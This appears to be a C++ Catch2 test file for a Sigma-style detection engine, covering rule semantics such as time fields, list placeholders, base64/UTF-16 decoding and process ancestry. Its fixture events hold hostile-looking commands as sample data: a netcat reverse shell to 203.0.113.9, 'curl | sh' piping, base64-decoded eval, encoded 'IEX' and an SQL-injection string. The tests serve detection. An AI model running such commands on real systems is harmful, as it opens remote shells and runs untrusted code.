// What rules mean, beyond Sigma's vectors: our kinds, fields, lineage, lists, time, and rows of
// TRUST that concern matching.
#include <catch2/catch.hpp>
#include <string>

#include "engine/rule_parser.h"
#include "engine/rule_set.h"
#include "tests/support/judge.h"

namespace detectd {
namespace {

// A rule for exec events with this detection.
std::string rule(const std::string& detection, const std::string& head = "on = \"exec\"",
                 const std::string& tail = "") {
  return "[[rule]]\nid = \"3f1e0a52-6b1e-4f0a-9d5e-0a7f7f0c9b11\"\ntitle = \"t\"\nlevel = "
         "\"low\"\n" +
         head + "\n[rule.detection]\n" + detection + "\n" + tail;
}

// `item` of a single selection against an event.
bool item_holds(const std::string& item, const std::string& event, const std::string& tail = "") {
  return testing::holds(rule("s." + item + "\ncondition = \"s\"", "on = \"exec\"", tail), event);
}

struct Case {
  const char* item;
  const char* event;
  bool holds;
};

}  // namespace

TEST_CASE("parts of the time are UTC's, weeks are ISO's", "[semantics]") {
  // Sunday of week 47, 23:59:07 in UTC.
  const std::string event = R"({"@timestamp":"2026-11-23T00:59:07+01:00"})";
  const auto [item, unused, holds] = GENERATE(table<const char*, const char*, bool>({
      {R"("@timestamp|hour" = 23)", "", true},
      {R"("@timestamp|hour|gte" = 22)", "", true},
      {R"("@timestamp|hour|lt" = 6)", "", false},
      {R"("@timestamp|minute" = 59)", "", true},
      {R"("@timestamp|day" = 22)", "", true},
      {R"("@timestamp|week" = 47)", "", true},
      {R"("@timestamp|week" = 48)", "", false},
      {R"("@timestamp|month" = [10, 11])", "", true},
      {R"("@timestamp|year" = 2026)", "", true},
  }));
  CAPTURE(item);
  CHECK(item_holds(item, event) == holds);
  (void)unused;
}

TEST_CASE("lists of a file feed the placeholders of its rules", "[semantics]") {
  const std::string lists = "[lists]\nshells = [\"sh\", \"ba*\"]\n";
  const Case& c = GENERATE(values<Case>({
      {R"("process.name|expand" = "%shells%")", R"({"process":{"name":"bash"}})", true},
      {R"("process.name|expand" = "%shells%")", R"({"process":{"name":"zsh"}})", false},
      {R"("process.executable|expand" = "/bin/%shells%")", R"({"process":{"executable":"/bin/sh"}})", true},
      {R"("process.executable|expand|endswith" = "/%shells%")", R"({"process":{"executable":"/usr/bin/SH"}})",
       true},
      {R"("process.name" = "%shells%")", R"({"process":{"name":"sh"}})", false},
  }));
  CAPTURE(c.item, c.event);
  CHECK(item_holds(c.item, c.event, lists) == c.holds);
}

TEST_CASE("text is found in UTF-16 behind base64, with and without its mark", "[semantics]") {
  const Case& c = GENERATE(values<Case>({
      // "IEX" in UTF-16LE, UTF-16BE, and with the byte order mark in front.
      {R"("process.command_line|utf16le|base64|contains" = "IEX")",
       R"({"process":{"command_line":"x SQBFAFgA"}})", true},
      {R"("process.command_line|utf16be|base64|contains" = "IEX")",
       R"({"process":{"command_line":"x AEkARQBY"}})", true},
      {R"("process.command_line|utf16|base64|contains" = "IEX")",
       R"({"process":{"command_line":"x //5JAEUAWAA="}})", true},
      {R"("process.command_line|utf16|base64|contains" = "IEX")",
       R"({"process":{"command_line":"x SQBFAFgA"}})", false},
      {R"("process.command_line|utf16be|base64|contains" = "IEX")",
       R"({"process":{"command_line":"x SQBFAFgA"}})", false},
  }));
  CAPTURE(c.item, c.event);
  CHECK(item_holds(c.item, c.event) == c.holds);
}

TEST_CASE("declared fields can be used, undeclared ones are refused", "[semantics]") {
  const std::string fields =
      "[fields]\n\"vendor.score\" = \"integer\"\n\"vendor.tags\" = \"list of string\"\n";
  CHECK(item_holds(R"("vendor.score|gte" = 7)", R"({"vendor":{"score":7}})", fields));
  CHECK(item_holds(R"("vendor.score|gte" = 7)", R"({"vendor.score":8})", fields));
  CHECK_FALSE(item_holds(R"("vendor.score|gte" = 7)", R"({"vendor":{"score":6}})", fields));
  CHECK(item_holds(R"("vendor.tags" = "b")", R"({"vendor":{"tags":["a","b"]}})", fields));
  CHECK_THROWS_WITH(item_holds(R"("vendor.score" = 7)", "{}"),
                    Catch::Contains("D051") && Catch::Contains("vendor.score"));
}

TEST_CASE("user and group without a prefix are the process's", "[semantics]") {
  CHECK(item_holds(R"("user.id" = 0)", R"({"process":{"user":{"id":0}}})"));
  CHECK(item_holds(R"("process.user.name" = "bob")", R"({"user":{"name":"bob"}})"));
  CHECK(item_holds(R"("group.id" = 5)", R"({"process":{"group":{"id":5}}})"));
  CHECK(item_holds(R"("user.audit.id" = 7)", R"({"user":{"audit":{"id":7}}})"));
}

TEST_CASE("items on ancestors concern one ancestor", "[semantics]") {
  const std::string items =
      "s.\"process.ancestors.name\" = \"sshd\"\n"
      "s.\"process.ancestors.executable|startswith\" = \"/tmp/\"\ncondition = \"s\"";
  const auto event = [](const char* names, const char* executables) {
    return std::string(R"({"process":{"ancestors":{"name":)") + names + R"(,"executable":)" + executables +
           "}}}";
  };
  CHECK(testing::holds(rule(items), event(R"(["sh","sshd"])", R"(["/bin/sh","/tmp/sshd"])")));
  CHECK_FALSE(testing::holds(rule(items), event(R"(["sh","sshd"])", R"(["/tmp/sh","/usr/sbin/sshd"])")));
  CHECK_FALSE(testing::holds(rule(items), "{}"));
}

TEST_CASE("a single item on ancestors is that of any list", "[semantics]") {
  const std::string names = R"({"process":{"ancestors":{"name":["bash","sshd"]}}})";
  CHECK(item_holds(R"("process.ancestors.name|all" = ["sshd", "bash"])", names));
  CHECK_FALSE(item_holds(R"("process.ancestors.name|all" = ["sshd", "init"])", names));
  CHECK_FALSE(item_holds(R"("process.ancestors.name|neq" = "sshd")", names));
  CHECK(item_holds(R"("process.ancestors.name|neq" = "init")", names));
  CHECK(item_holds(R"("process.ancestors.name|neq" = "sshd")", "{}"));
}

TEST_CASE("keywords are not searched for in numbers, whatever other rules name", "[semantics]") {
  const std::string event = R"({"labels":{"port":4444,"text":"x"}})";
  CHECK_FALSE(testing::holds(rule("k = [\"4444\"]\ncondition = \"k\""), event));
  CHECK_FALSE(
      testing::holds(rule("k = [\"4444\"]\ns.\"labels.port\" = 4444\ncondition = \"k and s\""), event));
  CHECK(testing::holds(rule("k = [\"4444\"]\ncondition = \"k\""), R"({"labels":{"port":"4444"}})"));
}

TEST_CASE("a logsource chooses the kinds, and its product the hosts", "[semantics]") {
  const std::string detection = "s.CommandLine = \"x\"\ncondition = \"s\"";
  const std::string head =
      "taxonomy = \"sigma\"\nlogsource = { category = \"process_creation\", product = \"linux\" }";
  const std::string text = rule(detection, head);
  CHECK(testing::holds(text, R"({"process":{"command_line":"x"}})"));
  CHECK(testing::holds(text, R"({"host":{"os":{"type":"linux"}},"process":{"command_line":"x"}})"));
  CHECK_FALSE(testing::holds(text, R"({"host":{"os":{"type":"windows"}},"process":{"command_line":"x"}})"));
  CHECK_FALSE(testing::holds(text, R"({"event":{"action":"end"},"process":{"command_line":"x"}})"));
}

TEST_CASE("Initiated says which side of a connection is meant", "[semantics]") {
  const std::string head =
      "taxonomy = \"sigma\"\nlogsource = { category = \"network_connection\", product = \"linux\" "
      "}";
  const std::string text = rule("s.Initiated = \"true\"\ns.DestinationPort = 4444\ncondition = \"s\"", head);
  CHECK(testing::holds(text, R"({"event":{"action":"connection_attempted"},"destination":{"port":4444}})"));
  CHECK_FALSE(
      testing::holds(text, R"({"event":{"action":"connection_accepted"},"destination":{"port":4444}})"));
  const std::string accepted = rule("s.Initiated = \"False\"\ncondition = \"s\"", head);
  CHECK(testing::holds(accepted, R"({"event":{"action":"connection_accepted"}})"));
  // Anything else is no question we know: the rule is inactive.
  const std::string other = rule("s.Initiated = \"yes\"\ncondition = \"s\"", head);
  CHECK_FALSE(testing::holds(other, R"({"event":{"action":"connection_accepted"}})"));
}

TEST_CASE("TRUST 27: a newline hides nothing from a regex with s", "[semantics]") {
  const std::string event = R"({"process":{"command_line":"curl x\n| sh"}})";
  CHECK_FALSE(item_holds(R"("process.command_line|re" = 'curl.*sh')", event));
  CHECK(item_holds(R"("process.command_line|re|s" = 'curl.*sh')", event));
}

TEST_CASE("TRUST 28: an invalid UTF-8 byte hides nothing", "[semantics]") {
  const std::string event = "{\"process\":{\"command_line\":\"curl \xff | sh\"}}";
  CHECK(item_holds(R"("process.command_line|re|s" = 'curl.*sh')", event));
  CHECK(item_holds(R"("process.command_line" = "curl ? | sh")", event));
  CHECK(item_holds(R"("process.command_line|contains" = "| SH")", event));
}

TEST_CASE("TRUST 29: arguments are seen one by one and joined by single blanks", "[semantics]") {
  const std::string event = R"({"process":{"args":["bash","-c","id  -u"]}})";
  CHECK(item_holds(R"("process.command_line" = "bash -c id  -u")", event));
  CHECK(item_holds(R"("process.args" = "-c")", event));
  CHECK_FALSE(item_holds(R"("process.args" = "bash -c")", event));
}

TEST_CASE("TRUST 31: what a shell decodes is seen where it becomes an exec, and by its wrapper",
          "[semantics]") {
  const std::string child =
      R"json({"process":{"command_line":"nc -e /bin/sh 203.0.113.9",)json"
      R"json("parent":{"command_line":"bash -c eval $(echo bmMgLWU= | base64 -d)"}}})json";
  CHECK(item_holds(R"("process.command_line|contains" = "nc -e")", child));
  CHECK(item_holds(R"("process.parent.command_line|contains|all" = ["eval", "base64 -d"])", child));
}

TEST_CASE("TRUST 36, 37: braces, percent signs and quotes in text are text", "[semantics]") {
  const std::string event = R"({"process":{"command_line":"{} %s %n '; drop table hits; --"}})";
  CHECK(item_holds(R"("process.command_line|contains" = "%n '; drop")", event));
}

TEST_CASE("a rule for the audit log that asks for arguments alone is one about exec", "[semantics]") {
  const std::string head = "taxonomy = \"sigma\"\nlogsource = { product = \"linux\", service = \"auditd\" }";
  const auto holds = [&](const std::string& items, const std::string& event) {
    return testing::holds(rule(items + "\ncondition = \"s\"", head), event);
  };
  const std::string chattr =
      R"({"host":{"os":{"type":"linux"}},"process":{"args":["chattr","-i","/etc/x"]}})";
  CHECK(holds("s.type = 'EXECVE'\ns.a0 = 'chattr'\ns.'a1|contains' = '-I'", chattr));
  CHECK(holds("s.type = ['execve']\ns.'a2|startswith' = '/etc/'", chattr));
  CHECK_FALSE(holds("s.a1 = 'chattr'", chattr));
  CHECK_FALSE(holds("s.a0 = '-i'", chattr));
  CHECK_FALSE(holds("s.a3 = '*'", chattr));
  CHECK(holds("s.'a3|exists' = false", chattr));
  CHECK_FALSE(holds("s.'a2|exists' = false", chattr));
  CHECK(holds("s.'a3|null' = true", chattr));
  CHECK(holds("s.'a1|neq' = 'chattr'", chattr));
  CHECK_FALSE(
      holds("s.a0 = 'chattr'", R"({"host":{"os":{"type":"windows"}},"process":{"args":["chattr"]}})"));
  CHECK_FALSE(holds("s.a0 = 'chattr'", R"({"event":{"action":"end"},"process":{"args":["chattr"]}})"));
  // Two items about different elements are different items.
  CHECK_FALSE(holds("s.a0 = 'x'\ns.a1 = 'x'", R"({"process":{"args":["x","y"]}})"));
}

TEST_CASE("a rule that needs more of the audit log than arguments is inactive", "[semantics]") {
  for (const char* item :
       {"s.type = 'SYSCALL'\ns.a0 = 'x'", "s.syscall = 'openat'", "s.'type|contains' = 'EXECVE'",
        "s = ['a keyword']", "s.a01 = 'x'", "s.ab = 'x'"}) {
    CAPTURE(item);
    RuleDocument document;
    Diagnostics diagnostics;
    const auto file = std::make_shared<const SourceFile>(SourceFile{
        "x.toml", rule(std::string(item) + "\ncondition = \"s\"",
                       "taxonomy = \"sigma\"\nlogsource = { product = \"linux\", service = \"auditd\" }")});
    parse_rules(file, document, diagnostics);
    const auto set = RuleSet::compile(document, diagnostics);
    CHECK(diagnostics.errors() == 0);
    CHECK(set->inactive().size() == 1);
  }
}

}  // namespace detectd
